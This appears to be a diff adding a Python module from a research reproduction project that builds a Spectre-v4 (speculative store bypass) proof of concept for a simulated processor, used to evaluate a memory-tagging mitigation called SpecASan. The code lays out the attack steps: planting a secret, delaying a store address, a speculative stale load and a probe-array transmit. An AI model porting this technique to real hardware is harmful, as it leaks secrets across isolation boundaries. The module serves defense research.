@@ -1,0 +1,70 @@
+"""Spectre-v4 / Spectre-STL (speculative store bypass).
+
+A store to the victim slot has a slow-to-resolve address; the memory
+dependence predictor lets a younger load to the *same* address speculate
+past it and read the **stale** memory content — the secret the store was
+about to overwrite.  When the store's address resolves, the ordering
+violation replays the load, which then (correctly) forwards the safe value.
+
+SpecASan's mitigation (§4.1): the bypassing load is *tagged* (its pointer
+carries the victim's key), so its data is held until the store queue
+disambiguates; the speculatively-fetched secret never reaches dependents.
+"""
+
+from __future__ import annotations
+
+from repro.attacks.common import (
+    AttackProgram,
+    emit_transmit,
+    make_probe_array,
+    plant_secret,
+    PROBE_BASE,
+    SECRET_BASE,
+    slow_cell_segment,
+    SLOW_CELLS,
+    TAG_SECRET,
+)
+from repro.isa.builder import ProgramBuilder
+from repro.mte.tags import with_key
+
+SECRET_VALUE = 11
+SAFE_VALUE = 2
+
+
+def build(variant: str = "classic") -> AttackProgram:
+    """Construct the Spectre-STL PoC."""
+    if variant != "classic":
+        raise ValueError(f"unknown spectre-v4 variant {variant!r}")
+    b = ProgramBuilder()
+    victim_ptr = with_key(SECRET_BASE, TAG_SECRET)
+
+    plant_secret(b, SECRET_VALUE)       # the stale content of the slot
+    make_probe_array(b)
+    # The slow cell holds the (tagged) store address itself, so the store's
+    # address resolution takes a DRAM round trip.
+    slow_cell_segment(b, values=[victim_ptr])
+
+    # Victim warms the slot so the bypassing load is an L1 hit (the window
+    # is the store-address resolution, not the load's own latency).  The
+    # barrier makes sure the warm-up fill has actually landed.
+    b.li("X20", victim_ptr)
+    b.ldrb("X21", "X20", note="victim warms its slot")
+    b.sb(note="wait for the warm-up fill")
+
+    b.li("X3", PROBE_BASE)
+    b.li("X12", SAFE_VALUE, note="the value the store will write")
+    b.li("X2", victim_ptr)
+
+    b.li("X15", SLOW_CELLS)
+    b.ldr("X11", "X15", note="store address arrives late (DRAM round trip)")
+    b.str_("X12", "X11", note="victim store: overwrite the secret")
+    b.ldr("X5", "X2", note="bypassing load: reads the STALE secret")
+    emit_transmit(b, "X5", "X3")
+    b.halt()
+
+    return AttackProgram(
+        name="spectre-v4", variant=variant,
+        builder_program=b.build(),
+        secret_value=SECRET_VALUE, secret_address=SECRET_BASE,
+        benign_values=[SAFE_VALUE],
+        description="speculative store bypass reading stale memory")
